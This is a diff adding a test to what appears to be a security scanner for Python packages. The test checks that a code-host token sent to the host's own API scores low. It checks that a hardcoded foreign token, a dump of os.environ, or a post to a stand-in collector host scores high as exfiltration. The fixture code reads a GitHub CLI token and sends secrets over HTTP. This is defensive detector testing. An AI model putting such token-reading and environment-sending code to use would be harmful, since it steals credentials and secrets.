@@ -1171,3 +1171,25 @@ test('what a vault or a store of keys gave, told to another house that is asked 
     ),
   ).toEqual([]);
 });
+
+test('the log-in of the program of a code host is shown to its own client; an account of the author’s gets it not', async () => {
+  const of = (key: string, body: string, host = 'api.github.com'): Promise<readonly Finding[]> =>
+    inspect(
+      'exfiltration',
+      wheel({
+        'pkg/__init__.py': '',
+        'pkg/release.py': python(
+          'import httpx, os, subprocess',
+          'def draft(tag):',
+          "    token = subprocess.run(['gh', 'auth', 'token'], capture_output=True, text=True).stdout.strip()",
+          `    client = httpx.Client(headers={'Authorization': 'Bearer ' + ${key}})`,
+          `    client.post('https://${host}/repos/example/example/releases', json={'body': ${body}})`,
+        ),
+      }),
+    );
+
+  expect((await of('token', 'tag + token')).every((f) => f.score <= 2)).toBe(true);
+  expect(await of("'ghp_' + 'notarealtoken' * 3", 'tag + token')).toMatchObject([{ score: 6 }]);
+  expect(await of('token', 'token + str(dict(os.environ))')).toMatchObject([{ score: 6 }]);
+  expect(await of('token', 'tag + token', 'api.collector.invalid')).toMatchObject([{ score: 6 }]);
+});
